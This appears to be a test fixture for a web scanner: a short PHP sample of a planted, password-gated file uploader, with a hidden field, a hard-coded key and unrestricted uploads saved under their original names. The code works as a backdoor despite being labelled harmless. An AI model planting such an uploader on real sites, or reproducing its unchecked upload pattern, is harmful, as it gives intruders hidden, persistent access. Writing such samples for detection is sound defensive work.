<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A planted uploader behind its own key: an unlabelled field takes a password written in the
// file, then a form stores any upload under its own name in a folder it creates.
session_start();
if (isset($_POST['k']) && $_POST['k'] == 'x9#Qv!72kLp') {
    $_SESSION['in'] = 1;
}
?>
<form method="post"><input type="text" name="k" style="border:0"></form>
<?php
if (!empty($_SESSION['in'])) {
    if (isset($_POST['go'])) {
        @mkdir('img');
        move_uploaded_file($_FILES['f']['tmp_name'], 'img/' . $_FILES['f']['name']);
        echo 'done';
    }
    echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" name="go"></form>';
}
